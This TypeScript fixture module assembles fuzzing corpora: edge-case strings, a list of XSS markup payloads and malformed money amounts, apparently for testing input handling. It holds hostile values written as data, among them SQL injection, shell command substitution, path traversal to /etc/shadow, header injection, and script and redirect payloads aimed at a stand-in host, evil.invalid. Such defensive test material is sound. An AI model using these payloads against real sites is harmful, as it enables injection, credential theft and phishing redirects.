import { withCorpus } from '../corpora.ts';

/** Texts that break careless software: numbers, words of languages, other scripts, control signs, commands, SQL. */
export const naughtyTexts = (): readonly string[] =>
  withCorpus(
    [
      '',
      'null',
      'undefined',
      'constructor',
      '0x7fffffff',
      '1e309',
      '-0',
      "Robert'); drop table store;--",
      "' or ''='",
      '../../../../etc/shadow',
      'file:///etc/hosts',
      '$(sleep 9)',
      '`id`',
      '%s%p%n',
      '{{7*7}}<%=7*7%>',
      '\u0001\u001f\u007f',
      '\u200b\u200e\ufeff',
      '\u202etxt.exe',
      'e\u0301e\u0302\u0323\u0308',
      'ＦＵＬＬ ｗｉｄｔｈ',
      'سلام دنیا',
      '你好，世界',
      '👩‍👩‍👧‍👦🏳️‍🌈🇪🇸',
      '"quoted" \\and\\ \'escaped\'',
      'line\r\nSet-Cookie: a=b',
      '<b>&amp;</b>',
      'a'.repeat(300),
    ],
    'strings/blns.json',
    (corpus) => corpus,
  );

/** Mark-up that runs a script where a page takes it for its own, a line each. */
const OWN_MARKUP: readonly string[] = [
  '<script>window.broken=1</script>',
  '</script><script>window.broken=1</script>',
  '<img src=x onerror=window.broken=1>',
  '"><svg onload=window.broken=1>',
  "'><details open ontoggle=window.broken=1>",
  '<iframe srcdoc="<script>parent.broken=1</script>"></iframe>',
  '<a href="javascript:window.broken=1">x</a>',
  '<body onpageshow=window.broken=1>',
  '<input autofocus onfocus=window.broken=1>',
  '<video><source onerror=window.broken=1></video>',
  '<math><mtext></p><style><img src=x onerror=window.broken=1></style>',
  '</textarea></title></style><img src=x onerror=window.broken=1>',
  '<!--><img src=x onerror=window.broken=1>-->',
  '<style>@import"//evil.invalid/x.css";</style>',
  '<meta http-equiv=refresh content="0;url=//evil.invalid">',
  '<base href="//evil.invalid/">',
  '<form action="//evil.invalid"><button>pay</button></form>',
  '&lt;script&gt;window.broken=1&lt;/script&gt;',
  '<ScRiPt/x>window.broken=1</sCrIpT>',
  '{{window.broken=1}}{{constructor.constructor("window.broken=1")()}}',
];

const XSS_CORPORA = ['IntrudersXSS', 'JHADDIX_XSS', 'RSNAKE_XSS', 'XSS_Polyglots'] as const;

/** Lines of hostile mark-up: ours, then those of the public lists that are named. */
export const hostileMarkup = (
  lists: readonly (typeof XSS_CORPORA)[number][] = XSS_CORPORA,
): readonly string[] =>
  lists.reduce((cases, list) => withCorpus(cases, `xss/${list}.txt`, (lines) => lines), OWN_MARKUP);

/** Texts for fields of amounts. Those that the pattern of the specification allows: 0.01, 0.1, 7, 12.5, 999.99, 1000. */
export const amountTexts = (): readonly string[] =>
  withCorpus<string, { vectors: string[] }>(
    [
      '0.01',
      '0.1',
      '7',
      '12.5',
      '999.99',
      '1000',
      '0',
      '0.00',
      '-5',
      '+5',
      '05',
      '5.',
      '.5',
      '5.001',
      '1,000',
      '1e2',
      '0x10',
      '5 ',
      ' 5',
      '5\n',
      '٥',
      '５',
      'Infinity',
      'five',
      '',
    ],
    'money/amount_strings.json',
    (corpus) => corpus.vectors,
  );
